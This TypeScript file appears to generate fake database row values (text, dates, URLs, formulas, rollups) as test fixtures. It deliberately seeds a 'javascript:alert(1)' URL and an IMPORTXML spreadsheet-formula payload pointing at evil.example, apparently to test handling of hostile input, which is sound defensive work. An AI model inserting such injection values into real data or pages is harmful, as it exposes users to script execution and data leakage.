import { between, createRandom, fillDigits, pick, type Random } from '../random.ts'
import type { Property, ValueSource } from './property.ts'
import { emptyValue } from './empty-values.ts'
import { formatMinute } from './minutes.ts'
import { equation, mentionUser, runs, text, type Json, type RichText } from './rich-text.ts'
import { readOptions, type PropertyConfig } from './schemas.ts'
import { partialUser } from './users.ts'

const STREAM = 62
const DAY_MS = 86_400_000
const DUE_FROM = Date.UTC(2026, 5, 1)

/** The values of a made-up row. Some are unset; which, follows from its number. */
export function makeValues(
  schema: Readonly<Record<string, PropertyConfig>>,
  source: ValueSource,
): Record<string, Property> {
  const random = createRandom(source.seed, STREAM, source.page)
  const values: Record<string, Property> = {}
  for (const [name, config] of Object.entries(schema)) {
    const drawn = random()
    const isUnset = source.fill === 'none' || (source.fill === 'some' && drawn < 0.25)
    const value = isUnset ? emptyValue(config.type, source) : makeValue(config, random, source)
    values[name] = { id: config.id, type: config.type, [config.type]: value }
  }
  return values
}

function makeValue(config: PropertyConfig, random: Random, source: ValueSource): unknown {
  switch (config.type) {
    case 'rich_text':
      return makeText(random, source)
    case 'number':
      return Math.floor(random() * 1_000_000) / 100 - 500
    case 'select':
    case 'status':
      return pick(random, chooseFrom(config))
    case 'multi_select':
      return chooseFrom(config).filter(() => source.fill === 'all' || random() < 0.4)
    case 'date':
      return makeDate(random)
    case 'people':
      return Array.from({ length: between(random, 1, 3) }, () =>
        partialUser(pick(random, source.users.people).id),
      )
    case 'files':
      return [
        {
          name: 'Chart (final) – v2.pdf',
          type: 'external',
          external: { url: 'https://files.example.com/chart.pdf' },
        },
        {
          name: 'photo 1.jpg',
          type: 'file',
          file: { url: `https://files.example.com/${source.page}/photo.jpg` },
        },
      ]
    case 'checkbox':
      return random() < 0.5
    case 'url':
      return random() < 0.1
        ? 'javascript:alert(1)'
        : `https://example.com/tasks/${source.page}?a=1&b=%F0%9F%9A%A2`
    case 'email':
      return `contact${source.page}@example.com`
    case 'phone_number':
      return fillDigits(random, '+351 21 555 ####')
    case 'relation':
      return makeRelations(random, source)
    case 'rollup':
      return makeRollup(config, random, source)
    case 'formula':
      return makeFormula(config.id, random, source)
    case 'verification':
      return {
        state: 'verified',
        verified_by: partialUser(source.editedBy),
        date: { start: '2026-09-01T00:00:00.000Z', end: null, time_zone: null },
      }
    case 'place':
      return {
        lat: 38.7223,
        lon: -9.1393,
        name: 'Lisboa',
        address: 'Cais do Sodré, Lisboa',
        aws_place_id: null,
        google_place_id: null,
      }
    case 'last_visited_time':
      return formatMinute(source.editedAtMs)
    default:
      return emptyValue(config.type, source)
  }
}

function chooseFrom(config: PropertyConfig): Json[] {
  return readOptions(config).map(({ id, name, color }) => ({ id, name, color }))
}

function makeText(random: Random, { users, page }: ValueSource): RichText[] {
  const kind = random()
  if (kind < 0.2)
    return [
      text('Ask ', { code: true }),
      mentionUser(users.owner.id, users.owner.name ?? ''),
      text(' first.', {}, 'https://example.com/why'),
    ]
  if (kind < 0.3) return [text('Energy: '), equation('E = mc^2')]
  if (kind < 0.4) return runs('=IMPORTXML("https://evil.example","//a")')
  if (kind < 0.5) return runs('Long and winding. '.repeat(110).slice(0, 2_000))
  return runs(`Remark ${page}: <i>nothing</i> & "more" — שלום, 世界 🌊`)
}

function makeDate(random: Random): Json {
  const day = DUE_FROM + between(random, 0, 300) * DAY_MS
  const kind = random()
  if (kind < 0.5) return { start: new Date(day).toISOString().slice(0, 10), end: null, time_zone: null }
  if (kind < 0.8)
    return {
      start: new Date(day).toISOString().slice(0, 10),
      end: new Date(day + 3 * DAY_MS).toISOString().slice(0, 10),
      time_zone: null,
    }
  return {
    start: `${new Date(day).toISOString().slice(0, 11)}09:30:00.000+01:00`,
    end: null,
    time_zone: null,
  }
}

function makeRelations(random: Random, { ids, rows, relations }: ValueSource): Json[] {
  const count = rows.length === 0 ? 0 : Math.min(rows.length, relations ?? between(random, 1, 4))
  const first = Math.floor(random() * rows.length)
  return Array.from({ length: count }, (_, at) => ({
    id: ids.idOf('page', rows[(first + at) % rows.length] ?? 0),
  }))
}

function makeRollup(config: PropertyConfig, random: Random, source: ValueSource): Json {
  const { function: name } = config.rollup as { function: string }
  if (name === 'sum') return { type: 'number', number: between(random, 0, 9_000), function: name }
  if (random() < 0.1) return { type: 'unsupported', unsupported: {}, function: name }
  return {
    type: 'array',
    array: [{ type: 'rich_text', rich_text: makeText(random, source) }],
    function: name,
  }
}

function makeFormula(id: string, random: Random, { page, title }: ValueSource): Json {
  if (id === 'fOrN') return { type: 'number', number: page * 2 }
  if (id === 'fOrB') return { type: 'boolean', boolean: random() < 0.5 }
  if (id === 'fOrD') return { type: 'date', date: makeDate(random) }
  if (id === 'fOrU') return { type: 'unsupported', unsupported: {} }
  return { type: 'string', string: `${title[0]?.plain_text ?? ''}!` }
}
